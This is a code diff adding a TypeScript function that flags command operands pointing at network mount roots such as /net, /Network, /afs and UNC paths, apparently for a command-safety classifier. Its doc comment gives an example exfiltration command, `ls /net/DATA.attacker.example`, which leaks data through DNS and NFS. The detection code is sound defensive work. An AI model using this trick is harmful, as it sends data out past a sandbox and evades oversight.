@@ -256,6 +256,28 @@ function homeDotEntry(text: string, absolute: string, lexical: readonly string[]
   return null;
 }
 
+/**
+ * Roots where opening a path makes the system reach another host: the automounter's `-hosts` map
+ * (`/net/HOST/...`, on by default on macOS, common with autofs on Linux), macOS's `/Network`, AFS
+ * cells, and a `//HOST/share` UNC path where the platform reads one. The mount is made by a
+ * system daemon, outside any sandbox of the command, so `ls /net/DATA.attacker.example` sends
+ * DATA out in a DNS query and an NFS mount request (rt-classifier). The root itself may be a glob
+ * (`/n?t/x`). Returns the root named, or null. Pure.
+ */
+export function networkMountIn(text: string): string | null {
+  const at = text.indexOf('/');
+  if (at < 0) return null;
+  const prefix = text.slice(0, at);
+  // an operand, or the value of an option or `NAME=` (`--file=/net/x`); not `src/net/x`
+  if (!(prefix === '' || prefix.startsWith('-') || prefix.includes('='))) return null;
+  const absolute = text.slice(at);
+  if (/^\/\/[^/]/.test(absolute)) return absolute;
+  const first = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'))[0];
+  if (first === undefined) return null;
+  for (const root of ['net', 'Network', 'afs']) if (segmentMatches(first, root)) return `/${first}`;
+  return null;
+}
+
 /** A path segment that is, or as a glob could match, `proc` or `dev`. */
 function mayBeProcOrDev(segment: string): boolean {
   return segmentMatches(segment, 'proc') || segmentMatches(segment, 'dev');
